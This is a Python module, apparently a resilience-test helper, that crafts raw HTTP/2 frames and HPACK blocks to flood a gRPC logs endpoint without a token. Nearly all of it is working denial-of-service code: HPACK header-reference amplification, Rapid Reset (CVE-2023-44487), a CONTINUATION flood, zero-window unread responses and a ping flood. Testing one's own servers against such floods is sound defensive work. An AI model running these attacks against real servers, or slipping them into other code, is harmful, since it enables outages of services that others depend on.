"""HTTP/2 as no gRPC client speaks it: handmade frames (RFC 9113) with handmade header blocks (RFC 7541).

Each attack is one connection without a token. It lasts until so many bytes are sent or the server closes it.
"""

from __future__ import annotations

import contextlib
import socket
import struct
import threading
import time
from collections.abc import Callable, Iterator

HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 1, 3, 4, 6, 7, 9
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
LOGS = b"/opentelemetry.proto.collector.logs.v1.LogsService/Export"
NEWEST = b"\xbe"
"""A reference to the newest header of the table (RFC 7541, 2.3.3)."""
BURST = 50
"""Requests that are sent at once."""
SECONDS = 30.0
"""Seconds after which a server that reads nothing more has stopped the attack."""

Attack = Callable[[socket.socket], Iterator[bytes]]
"""Yields the bytes to send after the preface, piece by piece, without end."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def settings(**values: int) -> bytes:
    """Return a SETTINGS frame. Keys are the settings' numbers: ``_4`` is the initial window (RFC 9113, 6.5.2)."""
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", int(key[1:]), value) for key, value in values.items()))


def literal(name: bytes, value: bytes, keep: bool = False) -> bytes:
    """Return a literal header. ``keep``: the server also adds it to its table."""
    return bytes((0x40 if keep else 0,)) + _text(name) + _text(value)


def request(path: bytes = LOGS) -> bytes:
    """Return the headers of a gRPC call."""
    given = {b":method": b"POST", b":scheme": b"http", b":path": path, b":authority": b"a"}
    given |= {b"content-type": b"application/grpc", b"te": b"trailers"}
    return b"".join(literal(name, value) for name, value in given.items())


def _text(value: bytes) -> bytes:
    """Return a text after its length, an integer with a 7-bit prefix (RFC 7541, 5.1)."""
    if len(value) < 127:
        return bytes((len(value),)) + value
    size, rest = bytearray((127,)), len(value) - 127
    while rest >= 128:
        size.append(rest % 128 + 128)
        rest //= 128
    return bytes((*size, rest)) + value


def _requests(block: bytes, after: Callable[[int], bytes] = lambda _: b"", flags: int = END_STREAM) -> Iterator[bytes]:
    number = 3
    while True:
        streams = range(number, number + 2 * BURST, 2)
        yield b"".join(frame(HEADERS, END_HEADERS | flags, stream, block) + after(stream) for stream in streams)
        number += 2 * BURST


def header_references(client: socket.socket) -> Iterator[bytes]:
    """Requests of 4 kB that refer 4,000 times to one header of the table: 15 MB each."""
    _read_in_a_thread(client)
    kept = request() + literal(b"x", b"v" * 3_800, keep=True)
    yield settings() + frame(HEADERS, END_HEADERS | END_STREAM, 1, kept)
    yield from _requests(request() + NEWEST * 4_000)


def rapid_reset(client: socket.socket) -> Iterator[bytes]:
    """Requests that are reset at once (CVE-2023-44487)."""
    _read_in_a_thread(client)
    yield settings()
    yield from _requests(request(), lambda stream: frame(RST_STREAM, 0, stream, b"\0\0\0\x08"), flags=0)


def endless_headers(client: socket.socket) -> Iterator[bytes]:
    """One request whose headers never end (CONTINUATION flood)."""
    _read_in_a_thread(client)
    yield settings() + frame(HEADERS, END_STREAM, 1, request())
    while True:
        yield BURST * frame(CONTINUATION, 0, 1, literal(b"x", b"v" * 300))


def unread_answers(_: socket.socket) -> Iterator[bytes]:
    """Requests for answers that get no window and that nobody reads."""
    yield settings(_4=0)
    yield from _requests(request(b"/x/" + b"y" * 200))


def _read_in_a_thread(client: socket.socket) -> None:
    def read() -> None:
        with contextlib.suppress(OSError):
            while client.recv(1 << 16):
                pass

    threading.Thread(target=read, daemon=True).start()


def attack(address: str, kind: Attack, size: int) -> int:
    """Send ``size`` bytes, fewer if the server closes the connection or stops reading. Returns how many were sent."""
    host, _, port = address.rpartition(":")
    sent = 0
    with contextlib.suppress(OSError), socket.create_connection((host, int(port)), SECONDS) as client:
        client.sendall(PREFACE)
        for piece in kind(client):
            if sent >= size:
                break
            client.sendall(piece)
            sent += len(piece)
    return sent


def pinged(address: str, times: int, pause: float) -> str:
    """Send only pings. Return the text of the GOAWAY with which the server ends the connection; "": it continues.

    Args:
        pause: seconds after each ping.
    """
    host, _, port = address.rpartition(":")
    received = b""
    with contextlib.suppress(ConnectionError), socket.create_connection((host, int(port)), SECONDS) as client:
        client.sendall(PREFACE + settings())
        for _ in range(times):
            client.sendall(frame(PING, 0, 0, bytes(8)))
            received += _until(client, time.monotonic() + pause)
    while len(received) >= 9:
        length, kind = int.from_bytes(received[:3], "big"), received[3]
        if kind == GOAWAY:
            return received[17 : 9 + length].decode()
        received = received[9 + length :]
    return ""


def _until(client: socket.socket, moment: float) -> bytes:
    """Return the bytes received until ``moment`` (monotonic), or until the other end closes."""
    received = b""
    while (left := moment - time.monotonic()) > 0:
        client.settimeout(left)
        piece = b""
        with contextlib.suppress(TimeoutError):
            piece = client.recv(1 << 16)
        if not piece:
            break
        received += piece
    return received
